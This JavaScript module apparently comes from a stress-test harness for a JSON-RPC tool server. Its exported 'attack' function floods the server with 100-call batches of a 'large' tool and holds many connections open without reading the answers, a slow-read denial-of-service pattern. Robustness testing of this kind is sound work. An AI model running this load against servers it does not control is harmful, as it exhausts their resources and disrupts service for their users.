import { untilClosed } from '../client.mjs';
import { inSession, modern } from '../requests.mjs';

const JSON_ONLY = { accept: 'application/json' };
const call = (id) => ({ jsonrpc: '2.0', id, method: 'tools/call', params: { name: 'large', arguments: {} } });
const BATCH = Array.from({ length: 100 }, (_, i) => call(i));

/** Large answers and batches of them that nobody reads. */
export async function attack(client) {
  const session = await client.session('2025-03-26');
  const single = modern('tools/call', { name: 'large', arguments: {} });
  const pipelined = { headers: single.headers, body: single.body };
  const unread = (request) => async () => {
    const socket = await client.unread(request);
    await untilClosed(socket, 10_000);
    socket.destroy();
    return 0;
  };
  await Promise.all([
    client.lanes(6, unread(inSession(session, BATCH, JSON_ONLY))),
    client.lanes(100, unread(pipelined)),
    client.lanes(2, () => client.send(inSession(session, BATCH, JSON_ONLY))),
  ]);
}
